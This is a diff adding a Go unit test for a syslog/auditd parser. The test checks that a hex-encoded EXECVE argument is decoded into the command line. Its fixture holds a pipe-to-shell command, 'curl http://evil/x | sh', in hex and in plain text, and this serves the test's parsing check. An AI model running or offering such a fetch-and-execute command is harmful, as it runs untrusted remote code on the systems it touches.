@@ -79,3 +79,16 @@ func TestPacketFilterICMPQuote(t *testing.T) {
 		t.Errorf("src %s dst %s proto %s dpt %d", ev.SrcIP, ev.DstIP, ev.Protocol, ev.DstPort)
 	}
 }
+
+// auditd hex-encodes an argument holding a space or a quote: it is decoded
+// into the command line (found by review).
+func TestAuditHexArguments(t *testing.T) {
+	var ev event.Event
+	msg := `<85>Dec  4 10:00:00 web-01 audisp-syslog: type=EXECVE msg=audit(1.2:9): argc=3 a0="bash" a1="-c" a2=6375726C20687474703A2F2F6576696C2F78207C207368`
+	if err := NewParser().Parse([]byte(msg), time.Now(), "127.0.0.1:514", &ev); err != nil {
+		t.Fatal(err)
+	}
+	if got := ev.Attrs["command_line"]; got != "bash -c curl http://evil/x | sh" {
+		t.Errorf("command_line %q", got)
+	}
+}
